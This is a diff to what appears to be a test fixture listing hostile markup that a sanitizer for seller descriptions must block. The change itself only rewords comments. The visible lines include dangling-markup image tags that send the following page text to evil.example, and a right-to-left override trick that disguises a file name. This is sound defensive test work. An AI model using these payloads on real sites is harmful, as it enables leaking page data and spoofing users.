@@ -1,6 +1,6 @@
 /**
- * What a seller's description may try: markup that runs, leaves for another origin, disguises itself or reaches for
- * names of the page. Each says `alert(1)` or evil.example where it would show. None of them may get through.
+ * Attacks in a seller's description: markup that runs, loads from another origin, disguises itself or clobbers names
+ * of the page. Each has `alert(1)` or evil.example where it would show. None of them may get through.
  */
 
 const SCRIPTS = [
@@ -226,7 +226,7 @@ const CLOBBERING = [
   `\u202e<b>\u202egnp.exe\u202c</b>\u2066<i>反转\u2069</i>`,
 ];
 
-/** Every one that ends what it begins, so that what stands behind it must still be shown. */
+/** Attacks whose markup is closed, so that the text behind them must still be shown. */
 export const HOSTILE_MARKUP: readonly string[] = [
   ...SCRIPTS,
   ...HANDLERS,
@@ -238,7 +238,7 @@ export const HOSTILE_MARKUP: readonly string[] = [
   ...CLOBBERING,
 ];
 
-/** These leave something open and may swallow what stands behind them. */
+/** Attacks with unclosed markup, which may swallow the text behind them. */
 export const DANGLING_MARKUP: readonly string[] = [
   `<img src='https://evil.example/?`,
   `<img src="https://evil.example/x?`,
